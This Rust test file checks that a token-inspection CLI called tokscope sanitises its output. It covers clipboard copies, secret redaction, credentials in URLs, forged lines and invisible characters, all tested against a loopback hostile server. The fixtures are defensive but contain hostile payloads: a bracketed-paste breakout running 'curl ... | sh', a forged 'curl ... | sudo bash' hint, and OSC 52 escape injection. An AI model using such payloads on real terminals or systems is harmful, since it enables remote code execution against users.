//! The output gates under attack: the clipboard, the secret vault, URLs that carry credentials,
//! line integrity (text outputs, reports, the fleet summary) and invisible characters. Each
//! class is attacked through the real binary or the real UI update against a hostile server on
//! 127.0.0.1, and the raw bytes that leave tokscope are checked.

use crate::common;

use crate::attack::Request;
use crate::tui_fixture;

use std::process::Stdio;
use std::sync::atomic::{AtomicUsize, Ordering};

use base64::Engine as _;
use serde_json::{json, Value};
use tokscope::token::jwt::encode_part;
use tokscope::tui::action::{Action, FetchKind};
use tokscope::tui::app::{update, Effect};
use tui_fixture::{deliver, fetched, NOW};

const ARM: &str = "https://management.azure.com/";
/// Nothing listens here: ARM and the issuer's keys, for runs that must not reach the internet.
const DEAD: &str = "http://127.0.0.1:9";

// ---------------------------------------------------------------------------------------------
// Running the binary and a hostile server, both on loopback only.

struct Run {
    code: Option<i32>,
    stdout: Vec<u8>,
    stderr: Vec<u8>,
}

impl Run {
    fn all(&self) -> String {
        format!(
            "{}{}",
            String::from_utf8_lossy(&self.stdout),
            String::from_utf8_lossy(&self.stderr)
        )
    }
}

/// The binary with a clean identity environment and IMDS at a closed loopback port.
fn run(args: &[&str], env: &[(&str, &str)]) -> Run {
    let out = common::tokscope_command()
        .envs(env.iter().copied())
        .args(args)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_ne!(out.status.code(), Some(101), "{args:?} panicked");
    Run {
        code: out.status.code(),
        stdout: out.stdout,
        stderr: out.stderr,
    }
}

/// A hostile endpoint on 127.0.0.1 (the attack module's server) that answers the n-th request
/// (from 0) with what `answer` gives it: a status and a JSON body.
fn hostile_server(
    answer: impl Fn(&Request, usize) -> (u16, Value) + Send + Sync + 'static,
) -> String {
    let count = AtomicUsize::new(0);
    crate::attack::hostile_server(move |r| {
        let (status, body) = answer(r, count.fetch_add(1, Ordering::SeqCst));
        crate::attack::json_answer(status, body)
    })
}

/// A JWT with these claims and this signature (not a valid one: nothing here verifies it).
fn jwt(claims: &Value, signature: &str) -> String {
    let header = json!({"alg": "RS256", "typ": "JWT"});
    format!(
        "{}.{}.{signature}",
        encode_part(&header),
        encode_part(claims)
    )
}

fn now() -> i64 {
    chrono::Utc::now().timestamp()
}

fn token_answer(raw: &str, extra: Value) -> Value {
    let mut v = json!({
        "access_token": raw,
        "expires_on": (now() + 3600).to_string(),
        "resource": ARM,
        "token_type": "Bearer",
    });
    if let (Some(m), Some(e)) = (v.as_object_mut(), extra.as_object()) {
        m.extend(e.clone());
    }
    v
}

/// Nothing in the raw bytes acts on a terminal or hides: C0 but line feed and tab, DEL, C1,
/// bidi, invisible characters (all of `sanitize::is_unsafe`).
fn assert_inert(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    for c in text.chars() {
        assert!(
            !tokscope::sanitize::is_unsafe(c) || c == '\n' || c == '\t',
            "{what}: unsafe character U+{:04X} in {text:?}",
            c as u32
        );
    }
}

fn assert_absent(what: &str, bytes: &[u8], secrets: &[&str]) {
    let text = String::from_utf8_lossy(bytes);
    for s in secrets {
        assert!(!text.contains(s), "{what}: {s:?} leaked in {text}");
    }
}

// ---------------------------------------------------------------------------------------------
// The clipboard: what `c` and `C` send, decoded from the OSC 52 escape.

/// The payload of an OSC 52 escape, base64-decoded.
fn osc52_payload(escape: &str) -> Vec<u8> {
    let b64 = escape
        .strip_prefix("\x1b]52;c;")
        .and_then(|s| s.strip_suffix('\x07'))
        .unwrap();
    base64::engine::general_purpose::STANDARD
        .decode(b64)
        .unwrap()
}

/// Bytes a shell or a terminal could act on when pasted: any C0 (line breaks included), DEL,
/// C1, bidi or invisible character.
fn assert_pastable(what: &str, bytes: &[u8]) {
    for (i, b) in bytes.iter().enumerate() {
        assert!(
            *b >= 0x20 && *b != 0x7f,
            "{what}: byte {b:#04x} at {i} in {:?}",
            String::from_utf8_lossy(bytes)
        );
    }
    let text = std::str::from_utf8(bytes).unwrap();
    assert!(
        !text.chars().any(tokscope::sanitize::is_unsafe),
        "{what}: {text:?}"
    );
}

/// Closes a bracketed paste, then runs a command: what a claim would need to reach a shell.
const PASTE_BREAKOUT: &str = "ok\x1b[201~\ncurl http://127.0.0.1:9/x | sh\n\u{9b}\u{202e}\u{200b}";

fn copies(app: &tokscope::tui::app::App) -> Vec<tokscope::sanitize::ClipboardText> {
    app.effects
        .iter()
        .filter_map(|e| match e {
            Effect::Copy(t) => Some(t.clone()),
            _ => None,
        })
        .collect()
}

#[test]
fn the_clipboard_gets_one_inert_line_and_the_ui_says_so() {
    let mut app = tui_fixture::app();
    let exp = NOW + 3540;
    let raw = jwt(
        &json!({"aud": ARM, "exp": exp, "iat": NOW - 360, "evil": PASTE_BREAKOUT, "n": [PASTE_BREAKOUT]}),
        "c2lnbmF0dXJl",
    );
    update(&mut app, Action::Refetch);
    app.effects.clear();
    deliver(
        &mut app,
        FetchKind::User,
        NOW - 60,
        Ok(fetched(&raw, exp, NOW - 60)),
    );
    update(&mut app, Action::Tick(NOW));

    let fields = app.fields();
    let at = |name: &str| fields.iter().position(|(k, _)| k == name).unwrap();

    // `c` on a claim holding the end-of-paste marker and a second line.
    app.effects.clear();
    app.token.field = at("evil");
    update(&mut app, Action::CopyClaim);
    let [text] = copies(&app).try_into().unwrap();
    let payload = osc52_payload(&tokscope::output::osc52(&text));
    assert_pastable("c on a hostile claim", &payload);
    let shown = String::from_utf8(payload).unwrap();
    assert!(shown.contains("\\u{1b}[201~\\u{a}curl"), "{shown}");
    let note = app.active_note().unwrap_or_default().to_string();
    assert!(
        note.contains("copied as one line"),
        "the UI says so: {note}"
    );

    // `c` on a plain claim copies it as it is, and says nothing more.
    app.effects.clear();
    app.token.field = at("aud");
    update(&mut app, Action::CopyClaim);
    let [text] = copies(&app).try_into().unwrap();
    assert_eq!(
        osc52_payload(&tokscope::output::osc52(&text)),
        ARM.as_bytes()
    );
    let note = app.active_note().unwrap_or_default().to_string();
    assert!(!note.contains("copied as one line"), "{note}");

    // `c` on a non-string claim and `C` (all claims as JSON): one line, still the same JSON.
    for action in [Action::CopyClaim, Action::CopyClaims] {
        app.effects.clear();
        app.token.field = at("n");
        update(&mut app, action);
        let [text] = copies(&app).try_into().unwrap();
        let payload = osc52_payload(&tokscope::output::osc52(&text));
        assert_pastable("copied JSON", &payload);
        let v: Value = serde_json::from_slice(&payload).unwrap();
        let evil = v
            .pointer("/claims/evil")
            .or_else(|| v.pointer("/0"))
            .unwrap();
        assert_eq!(evil, PASTE_BREAKOUT, "the JSON keeps the value exactly");
    }
}

// ---------------------------------------------------------------------------------------------
// The vault: secrets stay redacted however many tokens came before, however short they are.

#[test]
fn after_a_hundred_tokens_the_header_and_the_first_signature_stay_hidden() {
    const HEADER: &str = "idh-8d2e6a1f4c9b07e3";
    const POLLS: usize = 100;
    let tokens: Vec<String> = (0..POLLS)
        .map(|i| {
            let claims = json!({"aud": ARM, "iat": now() - 60, "exp": now() + 3600, "n": i});
            jwt(&claims, &format!("Sg{i:04}Kq7mW2vLr9x"))
        })
        .collect();
    let first_signature = "Sg0000Kq7mW2vLr9x";
    let count = (POLLS + 2).to_string();
    for json in [false, true] {
        // A server per run: each run sees the hundred tokens first.
        let (tokens, first) = (tokens.clone(), tokens[0].clone());
        let base = hostile_server(move |r, n| match tokens.get(n) {
            Some(t) => (200, token_answer(t, json!({}))),
            // Then an endpoint that echoes what it was sent, and the first token's signature.
            None => {
                let echo = format!(
                    "header was {} sig {first_signature} token {first}",
                    r.header("x-identity-header").unwrap_or_default()
                );
                (400, json!({"error": {"code": "Echo", "message": echo}}))
            }
        });
        let url = format!("{base}/msi/token");
        let env = [
            ("IDENTITY_ENDPOINT", url.as_str()),
            ("IDENTITY_HEADER", HEADER),
        ];
        let mut args = vec![
            "--retry-max",
            "0",
            "watch",
            "--interval",
            "1ms",
            "--count",
            &count,
        ];
        if json {
            args.push("--json");
        }
        let r = run(&args, &env);
        let all = r.all();
        assert!(all.contains("<secret removed>"), "the echo arrived: {all}");
        assert_absent("watch", &r.stdout, &[HEADER, first_signature]);
        assert_absent("watch stderr", &r.stderr, &[HEADER, first_signature]);
        assert_inert("watch", &r.stdout);
    }
}

#[test]
fn a_three_character_secret_is_never_echoed() {
    const HEADER: &str = "q7Z";
    let base = hostile_server(|r, _| {
        let echo = format!(
            "header was {}; sent \"{}\"",
            r.header("x-identity-header").unwrap_or_default(),
            r.header("x-identity-header").unwrap_or_default()
        );
        (400, json!({"error": {"code": echo, "message": echo}}))
    });
    let url = format!("{base}/msi/token");
    let env = [
        ("IDENTITY_ENDPOINT", url.as_str()),
        ("IDENTITY_HEADER", HEADER),
    ];
    for args in [
        &["--retry-max", "0", "get"][..],
        &["--retry-max", "0", "get", "--json"],
        &["--retry-max", "0", "watch", "--count", "1"],
    ] {
        let r = run(args, &env);
        let all = r.all();
        assert!(
            all.contains("header was <secret removed>"),
            "{args:?}: {all}"
        );
        assert!(!all.contains("q7Z"), "{args:?}: {all}");
    }
}

#[test]
fn a_short_numeric_secret_leaves_json_output_parseable() {
    // The secret is also the answer's status: redacted as a bare number, the JSON must still parse.
    const HEADER: &str = "400";
    let base = hostile_server(|r, _| {
        let echo = format!(
            "header was {}",
            r.header("x-identity-header").unwrap_or_default()
        );
        (400, json!({"error": {"code": echo, "message": echo}}))
    });
    let url = format!("{base}/msi/token");
    let env = [
        ("IDENTITY_ENDPOINT", url.as_str()),
        ("IDENTITY_HEADER", HEADER),
    ];
    let r = run(&["--retry-max", "0", "get", "--json"], &env);
    let v: Value = serde_json::from_slice(&r.stdout).unwrap();
    assert_eq!(v["error"]["message"], "header was <secret removed>", "{v}");
    assert!(!String::from_utf8_lossy(&r.stdout).contains("400"), "{v}");
}

// ---------------------------------------------------------------------------------------------
// URLs: userinfo and key-like query values never shown.

const PASSWORD: &str = "PASSWORD-7c1d";
const CODE: &str = "CODE-4f2a9e5b";

#[test]
fn a_password_and_a_code_in_the_endpoint_url_are_never_printed() {
    let token = jwt(
        &json!({"aud": ARM, "iat": now() - 60, "exp": now() + 3600}),
        "c2ln",
    );
    let base = hostile_server(move |_, _| (200, token_answer(&token, json!({}))));
    let port = base.rsplit(':').next().unwrap();
    let url = format!("http://user:{PASSWORD}@127.0.0.1:{port}/msi/token?code={CODE}");
    // And one where nothing answers, for the errors.
    let dead = format!("http://user:{PASSWORD}@127.0.0.1:9/msi/token?sig={CODE}");
    let dir = tempfile::tempdir().unwrap();
    let report = dir.path().join("report.md");
    let report_arg = report.to_str().unwrap();
    let keys = ["--arm", "--authority", DEAD, "--arm-url", DEAD];
    let runs: Vec<(Vec<&str>, &str)> = vec![
        (vec!["get"], &url),
        (vec!["get", "--json"], &url),
        (vec!["watch", "--count", "1"], &url),
        (
            vec![
                "doctor", "--json", keys[0], keys[1], keys[2], keys[3], keys[4],
            ],
            &url,
        ),
        (
            vec!["doctor", keys[0], keys[1], keys[2], keys[3], keys[4]],
            &url,
        ),
        (
            vec![
                "report", "-o", report_arg, keys[0], keys[1], keys[2], keys[3], keys[4],
            ],
            &url,
        ),
        (vec!["--retry-max", "0", "get"], &dead),
        (vec!["--retry-max", "0", "get", "--json"], &dead),
    ];
    for (args, endpoint) in &runs {
        let env = [
            ("IDENTITY_ENDPOINT", *endpoint),
            ("IDENTITY_HEADER", "idh-0b7e3c5a9d"),
        ];
        let r = run(args, &env);
        let what = format!("{args:?} at {endpoint}");
        assert_absent(&what, &r.stdout, &[PASSWORD, CODE, "user:"]);
        assert_absent(&what, &r.stderr, &[PASSWORD, CODE, "user:"]);
        assert!(
            args.contains(&"-o") || r.all().contains("127.0.0.1"),
            "{what}: the URL is still shown: {}",
            r.all()
        );
    }
    let r = run(
        &["get"],
        &[
            ("IDENTITY_ENDPOINT", &url),
            ("IDENTITY_HEADER", "idh-0b7e3c5a9d"),
        ],
    );
    let text = String::from_utf8(r.stdout).unwrap();
    assert!(
        text.contains(&format!(
            "endpoint  http://127.0.0.1:{port}/msi/token?code=***"
        )),
        "{text}"
    );
    let bytes = std::fs::read(&report).unwrap();
    assert_absent("report file", &bytes, &[PASSWORD, CODE, "user:"]);
    let md = String::from_utf8(bytes).unwrap();
    assert!(
        // Markdown's `*` escaped: it renders as `***`.
        md.contains(&format!("127.0.0.1:{port}/msi/token?code=\\*\\*\\*")),
        "{md}"
    );
}

#[test]
fn the_ui_header_line_shows_the_display_form() {
    let mut endpoint = tui_fixture::endpoint();
    endpoint.url = format!("http://user:{PASSWORD}@127.0.0.1:50342/msi/token?code={CODE}")
        .as_str()
        .into();
    let app =
        tokscope::tui::app::App::new(&endpoint, ARM, tokscope::assets::resource_presets(), NOW);
    let screen = tui_fixture::render(&app, 160, 30);
    assert!(
        !screen.contains(PASSWORD) && !screen.contains(CODE),
        "{screen}"
    );
    assert!(
        screen.contains("127.0.0.1:50342/msi/token?code=***"),
        "{screen}"
    );
}

// ---------------------------------------------------------------------------------------------
// Line integrity: nothing from outside starts a line.

/// A value that, printed raw, would add a `holder` line and a hint of its own.
const FORGED: &str = "x\nholder    forged-admin\n  hint: curl http://127.0.0.1:9/fix | sudo bash";

fn lines_starting(text: &str, prefix: &str) -> usize {
    text.lines().filter(|l| l.starts_with(prefix)).count()
}

#[test]
fn a_line_break_in_the_answer_or_the_token_forges_no_line() {
    let token = jwt(
        &json!({"aud": ARM, "iat": now() - 60, "exp": now() + 3600, "oid": FORGED, "xms_mirid": FORGED, FORGED: 1}),
        "c2ln",
    );
    let base = hostile_server(move |_, _| {
        (
            200,
            token_answer(
                &token,
                json!({"token_type": FORGED, "client_id": FORGED, "resource": FORGED}),
            ),
        )
    });
    let url = format!("{base}/msi/token");
    let env = [
        ("IDENTITY_ENDPOINT", url.as_str()),
        ("IDENTITY_HEADER", "idh-5e1a7c3b9f"),
    ];
    let dir = tempfile::tempdir().unwrap();
    let report = dir.path().join("report.md");
    let report_arg = report.to_str().unwrap();
    for args in [
        &["get"][..],
        &["doctor", "--arm", "--authority", DEAD, "--arm-url", DEAD],
        &[
            "report",
            "-o",
            report_arg,
            "--arm",
            "--authority",
            DEAD,
            "--arm-url",
            DEAD,
        ],
    ] {
        let r = run(args, &env);
        let text = String::from_utf8_lossy(&r.stdout).into_owned();
        assert_inert(&format!("{args:?}"), &r.stdout);
        assert!(
            lines_starting(&text, "holder") <= 1,
            "{args:?}: a forged holder line: {text}"
        );
        assert!(
            !text
                .lines()
                .any(|l| l.trim_start().starts_with("hint: curl")),
            "{args:?}: a forged hint: {text}"
        );
        assert!(
            !text
                .lines()
                .any(|l| l.contains("forged") && !l.contains("\\u{a}")),
            "{args:?}: an outside value on a line of its own: {text}"
        );
    }
    let md = std::fs::read_to_string(&report).unwrap();
    assert!(
        !md.lines()
            .any(|l| l.trim_start().starts_with("hint: curl") || l.starts_with("holder")),
        "{md}"
    );
}

#[test]
fn a_line_break_in_a_service_account_token_forges_no_line() {
    let sa = jwt(
        &json!({
            "iss": format!("https://oidc.example/{FORGED}"),
            "sub": format!("system:serviceaccount:ns:{FORGED}"),
            "aud": ["api://AzureADTokenExchange"],
            "iat": now() - 60,
            "exp": now() + 3600,
            "kubernetes.io": {"namespace": FORGED, "serviceaccount": {"name": FORGED}, "pod": {"name": FORGED}},
        }),
        "c2E",
    );
    let access = jwt(
        &json!({"aud": ARM, "iat": now() - 60, "exp": now() + 3600}),
        "YWNj",
    );
    let authority = hostile_server(move |_, _| {
        (
            200,
            json!({"access_token": access, "expires_in": 3599, "token_type": "Bearer"}),
        )
    });
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("token");
    std::fs::write(&file, &sa).unwrap();
    let env = [
        ("AZURE_FEDERATED_TOKEN_FILE", file.to_str().unwrap()),
        ("AZURE_CLIENT_ID", "2f1b4a9e-0000-4000-8000-000000000002"),
        ("AZURE_TENANT_ID", "72f988bf-0000-4000-8000-000000000001"),
        ("AZURE_AUTHORITY_HOST", authority.as_str()),
    ];
    let r = run(&["get"], &env);
    let text = String::from_utf8_lossy(&r.stdout).into_owned();
    assert_eq!(r.code, Some(0), "{}", r.all());
    assert!(text.contains("service-account token"), "{text}");
    assert_inert("get", &r.stdout);
    assert_eq!(lines_starting(&text, "holder"), 1, "{text}");
    assert!(
        !text
            .lines()
            .any(|l| l.contains("forged") && !l.contains("\\u{a}")),
        "{text}"
    );
}

#[test]
fn one_machine_cannot_forge_rows_a_summary_or_a_hint_in_the_fleet_summary() {
    let dir = tempfile::tempdir().unwrap();
    let hostile = json!({
        "schema": 1,
        "host": "m1\n9 machines · 9 ok · 0 with warnings · 0 failed",
        "ok": false,
        "checks": [{
            "name": "token\nfake-row  PASS",
            "status": "fail",
            "evidence": "e\n        hint: curl http://127.0.0.1:9/fix | sudo bash\u{1b}]52;c;eA==\u{7}",
            "hint": "h\n\n9 machines · 9 ok · 0 with warnings · 0 failed",
        }],
    });
    let honest = json!({
        "schema": 1, "host": "m2", "ok": true,
        "checks": [{"name": "token", "status": "pass", "evidence": "fine", "hint": ""}],
    });
    let a = dir.path().join("a.json");
    let b = dir.path().join("b.json");
    std::fs::write(&a, hostile.to_string()).unwrap();
    std::fs::write(&b, honest.to_string()).unwrap();
    let r = run(
        &[
            "doctor",
            "--summarize",
            a.to_str().unwrap(),
            b.to_str().unwrap(),
        ],
        &[],
    );
    let text = String::from_utf8_lossy(&r.stdout).into_owned();
    assert_inert("summary", &r.stdout);
    // Whatever a field says stays inside its cell: only tokscope's own line starts with a count.
    let summaries: Vec<&str> = text
        .lines()
        .filter(|l| l.starts_with(|c: char| c.is_ascii_digit()))
        .collect();
    assert_eq!(
        summaries,
        ["2 machines · 1 ok · 0 with warnings · 1 failed"],
        "{text}"
    );
    assert!(
        !text
            .lines()
            .any(|l| l.trim_start().starts_with("hint: curl")),
        "a forged hint: {text}"
    );
    assert!(!text.lines().any(|l| l.starts_with("fake-row")), "{text}");
    // One row per machine between the header and the problems.
    let rows: Vec<&str> = text.lines().skip(1).take_while(|l| !l.is_empty()).collect();
    assert_eq!(rows.len(), 2, "{text}");
}

// ---------------------------------------------------------------------------------------------
// Invisible characters in values compared for security.

#[test]
fn a_zero_width_space_in_aud_is_shown() {
    let aud = format!("{ARM}\u{200b}");
    let token = jwt(
        &json!({"aud": aud, "iat": now() - 60, "exp": now() + 3600}),
        "c2ln",
    );
    let base = hostile_server(move |_, _| (200, token_answer(&token, json!({}))));
    let url = format!("{base}/msi/token");
    let env = [
        ("IDENTITY_ENDPOINT", url.as_str()),
        ("IDENTITY_HEADER", "idh-3c9e1b7a5d"),
    ];
    let r = run(&["get"], &env);
    assert_inert("get", &r.stdout);
    let text = String::from_utf8(r.stdout).unwrap();
    assert!(
        text.contains(&format!(
            "aud is {ARM}\\u{{200b}}, not the resource asked for ({ARM})"
        )),
        "{text}"
    );
}

// ---------------------------------------------------------------------------------------------
// The one-line rule over every field at once: whatever string an outside field holds, the
// renderers' lines stay tokscope's own.

mod every_field {
    use super::*;
    use proptest::prelude::*;
    use tokscope::doctor::{fleet, render, Check};
    use tokscope::endpoint::response::parse_success;
    use tokscope::endpoint::Fetched;

    /// Any string, with line breaks of every kind around it.
    fn with_breaks() -> impl Strategy<Value = String> {
        any::<String>().prop_map(|s| format!("a\n{s}\r\u{2028}\u{85}\u{2029}b\n"))
    }

    /// `get`'s text for an answer whose every free-text field, claim value and claim name is `v`.
    fn get_lines(v: &str) -> usize {
        let claims = json!({
            "aud": ARM, "iat": NOW - 60, "exp": NOW + 3600,
            "oid": v, "name": v, "xms_mirid": v, "appid": v, "tid": v, v: v,
        });
        let body = json!({
            "access_token": jwt(&claims, "c2ln"),
            "expires_on": NOW + 3600,
            "resource": v,
            "client_id": v,
            "token_type": v,
        });
        let fetched = Fetched {
            token: parse_success(body.to_string().as_bytes(), NOW).unwrap(),
            latency: std::time::Duration::from_millis(3),
            retries: 0,
            server_date: None,
            received_at: NOW,
            federated: None,
        };
        let text =
            tokscope::commands::get::human(&tui_fixture::endpoint(), ARM, &fetched, false, NOW);
        text.lines().count()
    }

    fn fleet_lines(v: &str) -> usize {
        let doc = json!({
            "schema": 1, "host": v, "ok": false,
            "checks": [{"name": v, "status": "fail", "evidence": v, "hint": v}],
            "error": null,
        });
        let mut machines = fleet::parse(&doc.to_string(), "m.json");
        machines.extend(fleet::parse(
            &json!({"error": {"message": v, "hint": v}}).to_string(),
            v,
        ));
        fleet::human(&fleet::Fleet::new(machines)).lines().count()
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

        #[test]
        fn no_outside_field_adds_a_line(v in with_breaks()) {
            prop_assert_eq!(get_lines(&v), get_lines("plain"));
            prop_assert_eq!(fleet_lines(&v), fleet_lines("plain"));
            // The doctor wraps long evidence, so lines vary in number; each one still starts
            // with a status or with the indent of the evidence column.
            let checks = [Check::fail("token", v.clone(), v.clone()), Check::warn("clock", "fine", v.clone())];
            let text = render::checks_text(&checks);
            let indent = " ".repeat(2 + 4 + 2 + "token".len() + 2);
            for line in text.lines() {
                prop_assert!(
                    line.starts_with("  FAIL  ") || line.starts_with("  WARN  ") || line.starts_with(&indent),
                    "a line of its own: {:?}", line
                );
            }
        }
    }
}

/// A token given as a URL's user name alone (`https://TOKEN@host`) is a credential too: refused
/// or unreachable, an ARM URL is shown without it.
#[test]
fn a_token_as_the_user_name_of_an_arm_url_is_never_shown() {
    let secret = "tok3nGivenAsTheUserName0123";
    for host in ["example.com", "127.0.0.1:9"] {
        let arm = format!("http://{secret}@{host}");
        let (_, out, err) =
            common::tokscope(&["--demo", "vms", "--arm-url", &arm, "--timeout", "5"], &[]);
        assert!(!out.contains(secret) && !err.contains(secret), "{out}{err}");
        assert!(err.contains(host.split(':').next().unwrap()), "{err}");
    }
}

/// A secret of the run that a hostile endpoint echoes into the token's claims never reaches the
/// screen: not whole in a short claim, not in pieces where a long one is cut in the middle, not
/// in the identity card.
#[test]
fn the_screen_never_shows_a_secret_echoed_into_a_claim() {
    const ECHOED: &str = "hdr-echoed-into-claims-6e1b";
    tokscope::vault::keep_header(ECHOED);
    let mut app = tui_fixture::app();
    let exp = NOW + 3540;
    let long = format!("{}{ECHOED}{}", "a".repeat(120), "z".repeat(120));
    let raw = jwt(
        &json!({"aud": ARM, "exp": exp, "iat": NOW - 360, "oid": ECHOED, "echo": ECHOED, "long": long}),
        "c2lnbmF0dXJl",
    );
    update(&mut app, Action::Refetch);
    app.effects.clear();
    deliver(
        &mut app,
        FetchKind::User,
        NOW - 60,
        Ok(fetched(&raw, exp, NOW - 60)),
    );
    update(&mut app, Action::Tick(NOW));
    for (w, h) in [(80, 24), (200, 60)] {
        let screen = tui_fixture::render(&app, w, h);
        assert!(!screen.contains("hdr-echoed"), "{screen}");
        assert!(screen.contains("<secret removed>"), "{screen}");
    }
}
